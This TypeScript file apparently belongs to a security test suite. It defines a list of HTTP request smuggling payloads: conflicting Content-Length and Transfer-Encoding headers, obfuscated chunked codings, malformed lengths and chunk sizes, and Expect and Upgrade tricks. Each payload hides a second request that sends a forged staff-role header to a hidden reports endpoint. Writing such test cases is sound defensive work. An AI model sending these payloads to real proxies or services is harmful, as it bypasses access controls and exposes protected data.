import { app, CLOSE, COOKIE, HOST, requestOf, type Attack, type Attacks } from './attack';

const HIDDEN = `GET /reports/hidden HTTP/1.1\r\n${HOST}\r\nX-User-Roles: staff\r\n\r\n`;
const smuggling = (body: string, ...headers: string[]): Attack => ({
  who: 'plain',
  bytes: requestOf(['POST /app/x HTTP/1.1', HOST, COOKIE, ...headers, CLOSE], body),
});
const CHUNKED = `0\r\n\r\n${HIDDEN}`;
const LENGTH = `Content-Length: ${CHUNKED.length}`;

/** A second request in the body of the first, for a service that reads its length in another way than the proxy. */
export const SMUGGLED: Attacks = [
  ['length and chunks', smuggling(CHUNKED, LENGTH, 'Transfer-Encoding: chunked')],
  ['chunks and length', smuggling(CHUNKED, 'Transfer-Encoding: chunked', LENGTH)],
  ...[
    'Transfer-Encoding : chunked',
    'Transfer-Encoding: xchunked',
    'Transfer-Encoding:\x0bchunked',
    'Transfer-Encoding: chunked, identity',
    'Transfer-Encoding: identity, chunked',
    'Transfer_Encoding: chunked',
    'Transfer-Encoding:\r\n chunked',
    'Transfer-Encoding: "chunked"',
    'X: x\nTransfer-Encoding: chunked',
    'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  ].map((coding): [string, Attack] => [JSON.stringify(coding), smuggling(CHUNKED, LENGTH, coding)]),
  ...['0', '+0', '-0', '0x0', '0, 0', `0\r\nContent-Length: ${HIDDEN.length}`, '00', '0 0', '1e0', ''].map(
    (length): [string, Attack] => [
      `Content-Length: ${JSON.stringify(length)}`,
      smuggling(HIDDEN, `Content-Length: ${length}`),
    ],
  ),
  ['a length with an underscore', smuggling(HIDDEN, `Content_Length: ${HIDDEN.length}`)],
  ...['ffffffffffffffff0', '0x0', '-1', ' 0', '0;\n', '0;a="\n"', '0\n'].map((size): [string, Attack] => [
    `a chunk of ${JSON.stringify(size)}`,
    smuggling(`${size}\r\n\r\n${HIDDEN}`, 'Transfer-Encoding: chunked'),
  ]),
  ['a body of a GET', { who: 'plain', bytes: app(`Content-Length: ${HIDDEN.length}`).bytes + HIDDEN }],
  ['before it continues', smuggling(HIDDEN, 'Expect: 100-continue', `Content-Length: ${HIDDEN.length}`)],
  [
    'an unfinished upgrade',
    {
      who: 'plain',
      bytes:
        app('Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 777', 'Sec-WebSocket-Key: x')
          .bytes + HIDDEN,
    },
  ],
];
